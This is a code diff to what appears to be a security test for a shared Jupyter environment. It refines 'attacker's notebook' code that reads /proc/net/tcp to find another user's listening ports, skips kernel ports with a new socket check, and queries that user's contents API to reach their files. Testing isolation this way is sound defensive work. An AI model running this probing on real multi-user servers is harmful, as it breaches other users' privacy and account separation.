@@ -51,7 +51,7 @@ ATTACKS = {
 }
 # What these names mean in the attacker's notebook.
 TOOLS = """
-import json, os, pwd, subprocess, sys, time, urllib.request, zmq
+import json, os, pwd, socket, subprocess, sys, time, urllib.request, zmq
 from glob import glob
 import autograd_course
 def flood(most=3000):
@@ -87,12 +87,19 @@ def listening():
     lines = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
     uid = str(pwd.getpwnam(other).pw_uid)
     return [int(line[1].split(":")[1], 16) for line in lines if line[3] == "0A" and line[7] == uid]
+def is_a_kernel_s(port):  # which speaks first; to be asked, it would say nothing until the time is over
+    with socket.create_connection(("127.0.0.1", port), 1) as connection:
+        try:
+            return connection.recv(1)
+        except TimeoutError:
+            return False
 def ports():
     answers = []
     for port in listening():
         try:
-            ask(f"http://127.0.0.1:{port}/user/{other}/api/contents")
-            answers.append(port)
+            if not is_a_kernel_s(port):
+                ask(f"http://127.0.0.1:{port}/user/{other}/api/contents")
+                answers.append(port)
         except Exception:
             pass
     return answers
